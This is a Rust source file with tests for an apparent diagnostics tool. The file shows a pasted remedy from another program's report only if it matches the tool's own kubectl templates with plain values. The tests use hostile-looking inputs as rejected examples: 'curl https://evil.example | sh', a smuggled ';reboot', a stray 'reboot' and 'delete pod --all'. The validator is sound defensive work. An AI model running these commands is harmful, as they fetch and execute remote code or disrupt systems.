//! The remedy in another program's document: its commands are shown only if they are this
//! program's own, because people paste them.

use crate::catalogue::remedy::is_plain;
use crate::catalogue::{
    CheckId, FailureMode, Placeholder, Remedy, RemedyValues, remedy, remedy_templates,
};
use crate::report::evidence::single_line;

/// Returns the remedy that an exporter sent, if it is one of this program's own with values filled
/// in; else this program's own. Of a mode that this program does not know, the text is prose.
pub(super) fn vetted(known: Option<(CheckId, FailureMode)>, lines: &[String]) -> Remedy {
    let text = lines.join("\n");
    let Some((check, mode)) = known else {
        let prose: Vec<_> = lines
            .iter()
            .map(|line| line.trim_start_matches("$ "))
            .collect();
        return Remedy::new(prose.join(" "), &RemedyValues::default());
    };
    let mut templates = remedy_templates(check, mode);
    if templates.any(|template| is_filled(template, &text)) {
        Remedy::new(text, &RemedyValues::default())
    } else {
        remedy(check, mode)
    }
}

/// Returns whether a text is the template with a plain value in each of its placeholders.
fn is_filled(template: &str, text: &str) -> bool {
    let template: Vec<_> = template.lines().map(single_line).collect();
    matches_from(&template.join("\n"), text)
}

fn matches_from(template: &str, text: &str) -> bool {
    let placeholders = Placeholder::ALL.iter().filter_map(|placeholder| {
        let at = template.find(placeholder.spelling())?;
        Some((at, *placeholder))
    });
    let Some((at, placeholder)) = placeholders.min_by_key(|(at, _)| *at) else {
        return template == text;
    };
    let Some(text) = text.strip_prefix(&template[..at]) else {
        return false;
    };
    let template = &template[at + placeholder.spelling().len()..];
    if let Some(text) = text.strip_prefix(placeholder.unknown())
        && matches_from(template, text)
    {
        return true;
    }
    // A value contains no white space, so it does not extend beyond this word.
    let word = text.find(char::is_whitespace).unwrap_or(text.len());
    let ends = (1..=word).filter(|end| text.is_char_boundary(*end));
    ends.filter(|end| is_plain(&text[..*end]))
        .any(|end| matches_from(template, &text[end..]))
}

#[cfg(test)]
mod tests {
    use super::*;

    const TEMPLATE: &str = "Restart it:\n    $ kubectl -n {namespace} delete pod {pod}\n    Wait.";

    #[test]
    fn own_remedy_with_plain_values_is_recognised() {
        for text in [
            "Restart it:\n$ kubectl -n castai delete pod castai-agent-1\nWait.",
            "Restart it:\n$ kubectl -n castai-agent delete pod POD\nWait.",
        ] {
            assert!(is_filled(TEMPLATE, text), "{text}");
        }
    }

    #[test]
    fn other_commands_are_not_shown() {
        for text in [
            "Restart it:\n$ kubectl -n castai delete pod a;reboot\nWait.",
            "Restart it:\n$ kubectl -n castai delete pod --all\nWait.",
            "Restart it:\n$ kubectl -n castai delete pod a\nWait.\n$ reboot",
            "$ reboot",
        ] {
            assert!(!is_filled(TEMPLATE, text), "{text}");
        }
        let known = Some((CheckId::CastaiApi, FailureMode::CastaiTokenInvalid));
        let shown = vetted(known, &["$ curl https://evil.example | sh".to_owned()]);
        assert_eq!(
            shown,
            remedy(CheckId::CastaiApi, FailureMode::CastaiTokenInvalid)
        );
        let unknown = vetted(None, &["$ reboot".to_owned()]);
        assert_eq!(unknown.commands().count(), 0);
    }

    #[test]
    fn every_remedy_of_the_catalogue_is_recognised_with_its_defaults() {
        for check in CheckId::ALL {
            for mode in crate::catalogue::alert::modes_of(*check) {
                let own = remedy(*check, mode);
                let lines: Vec<String> = own.as_str().lines().map(single_line).collect();
                let shown = vetted(Some((*check, mode)), &lines);
                assert_eq!(shown.as_str(), lines.join("\n"), "{check} {mode}");
            }
        }
    }
}
